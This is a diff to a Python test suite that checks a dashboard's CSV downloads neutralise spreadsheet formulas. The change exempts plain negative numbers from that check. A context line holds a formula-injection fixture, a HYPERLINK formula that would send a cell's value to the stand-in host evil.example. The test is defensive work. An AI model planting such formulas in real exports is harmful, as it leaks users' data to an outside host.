@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import numpy as np
 import pandas as pd
@@ -21,6 +22,9 @@ from dashboard.model import CollectionsModel
 from dashboard.ui.app import Dashboard
 from dashboard.ui.downloads import FORMULA_STARTS, csv_file, csv_safe_text
 from dashboard.ui.tabs import TABS, Table
+
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
+"""A number as the download writes it (bare): never run as a formula."""
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click for details")'
 CUSTOMER_IDS = {
@@ -142,7 +146,9 @@ def test_every_download_neutralises_formulas(csv_model):
         numeric = {c for c in shown.columns if pd.api.types.is_numeric_dtype(shown[c])}
         for row in rows:
             for column, cell in zip(rows[0], row, strict=True):
-                if column not in numeric:
+                # a plain number (a negative change in a column that blanks its missing
+                # values, so of object dtype) is what a spreadsheet should read: a number
+                if column not in numeric and not PLAIN_NUMBER.fullmatch(cell):
                     assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
 
 
